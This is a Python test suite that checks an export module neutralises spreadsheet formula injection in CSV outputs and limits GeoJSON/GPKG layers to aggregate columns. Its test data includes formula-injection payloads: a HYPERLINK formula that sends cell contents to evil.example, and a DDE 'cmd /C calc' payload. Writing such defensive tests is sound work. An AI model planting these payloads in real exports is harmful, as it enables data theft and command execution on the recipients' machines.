"""Export safety (issue 8.2): text reaching a CSV export is neutralised against spreadsheet
formula injection (OWASP: a leading ``'`` before ``= + - @ TAB CR``) on every export path, and the
GeoJSON/GPKG layers carry only aggregate columns (an allow-list, per layer)."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pandas as pd
import pyogrio
import pytest
import sqlalchemy as sa
from click.testing import CliRunner as ClickRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from istvhub.cli import app
from istvhub.exportsafety import FORMULA_START, is_dangerous, neutralise, neutralise_frame
from istvhub.hotblocks.sample import write_mini_gazetteer

sys.path.insert(0, str(Path(__file__).resolve().parent))
from test_hotblocks_cli import fill_store  # noqa: E402

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
FEEDS = Path(__file__).resolve().parents[1] / "sample_feeds"

#: every column a published layer may carry: counts, ranks, names of places, never a record
ALLOWED = {
    "blocks": {
        "block_id",
        "name",
        "borough",
        "length_m",
        "count",
        "rate_per_100m",
        "rank",
        "share",
        "suppressed",
        "hex_id",
        "geometry",
    },
    "hexes": {"hex_id", "h3_res", "count", "rank", "share", "suppressed", "geometry"},
    "lsoas": {"lsoa_code", "lsoa_name", "count", "rank", "share", "suppressed", "geometry"},
    "lsoas21": {
        "lsoa21_code",
        "lsoa21_name",
        "borough",
        "count",
        "rank",
        "share",
        "suppressed",
        "geometry",
    },
    "msoas21": {
        "msoa21_code",
        "msoa21_name",
        "borough",
        "count",
        "rank",
        "share",
        "suppressed",
        "geometry",
    },
    "summary": {"section", "key", "value"},
    "concentration": {"scope", "pct_units", "pct_incidents"},
}


# --------------------------------------------------------------------------- the neutraliser


@pytest.mark.parametrize("text", PAYLOADS)
def test_payloads_get_a_leading_quote(text):
    assert neutralise(text) == "'" + text.replace("\r", "\n")
    assert not is_dangerous(neutralise(text))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_neutralised_text_never_starts_a_formula_and_keeps_the_text(text):
    out = neutralise(text)
    assert not is_dangerous(out)
    assert "\r" not in out
    flat = text.replace("\r\n", "\n").replace("\r", "\n")
    assert out == flat or out == "'" + flat
    assert (out == "'" + flat) == flat.startswith(FORMULA_START)


def test_frame_numbers_untouched_text_neutralised():
    df = pd.DataFrame(
        {
            "lon": [-0.12, 0.1],
            "name": ["-2+3", "Oxford Street"],
            "n": pd.array([-1, 2], dtype="Int64"),
            "obj": [None, "@x"],
        }
    )
    out = neutralise_frame(df)
    assert out["lon"].tolist() == [-0.12, 0.1] and out["n"].tolist() == [-1, 2]
    assert out["name"].tolist() == ["'-2+3", "Oxford Street"]
    assert out["obj"].tolist()[1] == "'@x"
    assert df["name"].tolist() == ["-2+3", "Oxford Street"]  # the input is not modified


def _assert_csv_safe(text: str, where: str) -> list[list[str]]:
    """Every cell that a spreadsheet would evaluate is a plain number; returns the rows."""
    rows = list(csv.reader(io.StringIO(text)))
    for r in rows:
        for cell in r:
            if is_dangerous(cell):
                try:
                    float(cell)
                except ValueError:
                    pytest.fail(f"{where}: a cell would be evaluated as a formula")
    return rows


# --------------------------------------------------------------------------- hot blocks


@pytest.fixture
def poisoned_home(home, sources_dir):
    """The mini gazetteer with every street name replaced by a formula payload (+ its name)."""
    import geopandas as gpd

    vdir = write_mini_gazetteer(sources_dir, home)
    b = gpd.read_parquet(vdir / "blocks.parquet")
    b["name"] = [f"{PAYLOADS[i % len(PAYLOADS)]} {n}" for i, n in enumerate(b["name"])]
    b.to_parquet(vdir / "blocks.parquet")
    return home


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_hotblocks_exports_neutralised_and_aggregate_only(
    db_url, poisoned_home, sources_dir, tmp_path
):
    fill_store(db_url, sources_dir)
    base = ["hotblocks", "--from", "2024-01", "--to", "2024-02", "--db", db_url]
    for fmt in ("csv", "geojson", "gpkg"):
        out = tmp_path / fmt / f"hot.{fmt}"
        res = CliRunner().invoke(app, [*base, "--format", fmt, "--output", str(out)])
        assert res.exit_code == 0, (res.output, res.exception)
    csv_files = sorted((tmp_path / "csv").glob("*.csv"))
    assert len(csv_files) == 7  # blocks, hexes, lsoas, lsoas21, msoas21 + 2 tables
    names_seen = 0
    for p in csv_files:
        rows = _assert_csv_safe(p.read_text(encoding="utf-8"), p.name)
        header = rows[0]
        layer = p.stem.removeprefix("hot_") if p.stem != "hot" else "blocks"
        assert set(header) - {"wkt"} <= ALLOWED[layer], (layer, header)
        if "name" in header:
            i = header.index("name")
            names = [r[i] for r in rows[1:] if r[i]]
            assert names and all(n.startswith("'") for n in names)
            names_seen += len(names)
    assert names_seen > 10  # only blocks with 8+ are listed (docs/DISCLOSURE.md)
    # spatial formats: the column sets of every layer against the allow-list
    for name, _ in pyogrio.list_layers(tmp_path / "gpkg" / "hot.gpkg"):
        df = pyogrio.read_dataframe(tmp_path / "gpkg" / "hot.gpkg", layer=name)
        assert set(df.columns) <= ALLOWED[name], (name, list(df.columns))
    gj = sorted((tmp_path / "geojson").glob("*.geojson"))
    assert len(gj) == 5  # blocks, hexes, lsoas, lsoas21, msoas21
    for p in gj:
        layer = p.stem.removeprefix("hot_") if p.stem != "hot" else "blocks"
        df = pyogrio.read_dataframe(p)
        assert set(df.columns) <= ALLOWED[layer], (layer, list(df.columns))


# --------------------------------------------------------------------------- compliance


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_compliance_csv_neutralises_department_names(db_url, sources_dir, home):
    from istvhub.compliance.render import render
    from istvhub.compliance.service import build_report
    from istvhub.store import open_store
    from istvhub.store.schema import departments

    fill_store(db_url, sources_dir, n=200)
    store = open_store(db_url)
    with store.engine.begin() as conn:
        conn.execute(
            sa.update(departments)
            .where(departments.c.ods_code == "RJ122")
            .values(name=PAYLOADS[0], borough=PAYLOADS[1])
        )
    store.dispose()
    text = render(build_report(db_url, start="2024-01", end="2024-02"), "csv")
    rows = _assert_csv_safe(text, "compliance csv")
    flat = {c for r in rows for c in r}
    assert "'" + PAYLOADS[0] in flat and "'" + PAYLOADS[1] in flat


# --------------------------------------------------------------------------- ingest reports


def test_ingest_cli_report_neutralises_file_names(db_url, home, tmp_path):
    """A file named like a formula: the row-level report's file column is neutralised."""
    from istvhub import cli

    src = FEEDS / "RJ122" / "RJ122_2025-07.csv"  # rows with impossible dates: quarantined
    p = tmp_path / "-2+3 RJ122_2025-07.csv"
    p.write_bytes(src.read_bytes())
    rep = tmp_path / "report.csv"

    import click

    @click.command()
    def cmd() -> None:
        cli.main()

    old = sys.argv
    sys.argv = ["istvhub", "ingest", "--db", db_url, "--no-geocode", "--report", str(rep), str(p)]
    try:
        res = ClickRunner().invoke(cmd, [], catch_exceptions=False)
    finally:
        sys.argv = old
    assert res.exit_code == 0, res.output
    rows = _assert_csv_safe(rep.read_text(encoding="utf-8"), "ingest report")
    assert len(rows) > 2 and all(r[0] == "'-2+3 RJ122_2025-07.csv" for r in rows[1:])


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_api_report_csv_neutralises_file_names(db_url, tmp_path):
    from fastapi.testclient import TestClient

    from istvhub.api import users
    from istvhub.api.app import create_app
    from istvhub.api.deps import open_app_store
    from istvhub.core.config import Settings

    home = tmp_path / "home"
    home.mkdir()
    s = Settings(home=home, db=db_url)
    store = open_app_store(s)
    tok = users.add_user(store.engine, "admin-1", "admin")[1]
    data = (FEEDS / "RJ122" / "RJ122_2025-07.csv").read_bytes()
    with TestClient(create_app(s)) as client:
        h = {"Authorization": f"Bearer {tok}"}
        r = client.post(
            "/submissions", headers=h, files={"file": ("-cmd=RJ122_2025-07.csv", data, "text/csv")}
        )
        assert r.status_code == 201, r.text
        sid = r.json()["submission_id"]
        r = client.get(f"/submissions/{sid}/report", params={"format": "csv"}, headers=h)
    store.dispose()
    assert r.status_code == 200
    rows = _assert_csv_safe(r.text, "API report csv")
    assert len(rows) > 2 and all(row[0].startswith("'-") for row in rows[1:])


# --------------------------------------------------------------------------- geocode CLI


def test_geocode_cli_output_neutralised(gazetteer_home, tmp_path):
    inp = tmp_path / "in.csv"
    texts = [*PAYLOADS, "o/s 10 Downing Street SW1A 2AA", "@ home"]
    pd.DataFrame({"id": range(len(texts)), "=evil()": "x", "loc": texts}).to_csv(inp, index=False)
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(
        app,
        [
            "geocode",
            "file",
            str(inp),
            "--column",
            "loc",
            "--output",
            str(out),
            "--home",
            str(gazetteer_home),
        ],
    )
    assert res.exit_code == 0, (res.output, res.exception)
    rows = _assert_csv_safe(out.read_text(encoding="utf-8"), "geocode output")
    header = rows[0]
    assert "'=evil()" in header
    locs = [r[header.index("loc")] for r in rows[1:]]
    assert "'-2+3" in locs and "'@SUM(1+1)" in locs and "'@ home" in locs
    assert "o/s 10 Downing Street SW1A 2AA" in locs  # ordinary text is left alone


# --------------------------------------------------------------------------- feedback + guard


def test_feedback_csv_neutralises_free_text():
    from istvhub.feedback.core import FeedbackSheet
    from istvhub.feedback.render import to_csv

    texts = pd.DataFrame(
        {
            "text": [*PAYLOADS, "x\r=cmd|' /C calc'!A0", "o/s tesco"],
            "count": range(len(PAYLOADS) + 2),
            "status": "unmatched",
            "problem": "not found",
            "guidance": "name the street",
        }
    )
    sheet = FeedbackSheet("RJ122", "St Thomas' Hospital", "2025-06", {"records": 9}, texts)
    rows = _assert_csv_safe(to_csv(sheet), "feedback csv")
    items = [r[3] for r in rows if r[2] == "text"]
    assert "'-2+3" in items and "o/s tesco" in items
    assert all(not is_dangerous(i) for i in items)


WRITERS = (".to_csv(", "csv.writer(", "csv.DictWriter(", ".to_excel(", "openpyxl.Workbook(")


def test_every_csv_writer_in_the_package_neutralises():
    """A guard for new export paths: each CSV/XLSX writer in src/istvhub has the neutraliser
    within the few lines around it (the frame or rows it writes pass through it)."""
    src = Path(__file__).resolve().parents[1] / "src" / "istvhub"
    missing = []
    for py in sorted(src.rglob("*.py")):
        lines = py.read_text(encoding="utf-8").splitlines()
        for i, line in enumerate(lines):
            if any(w in line for w in WRITERS):
                near = "\n".join(lines[max(0, i - 12) : i + 12])
                if "neutralis" not in near and "_cell(" not in near and "_csv_frame(" not in line:
                    missing.append(f"{py.relative_to(src)}:{i + 1}")
    assert not missing, missing
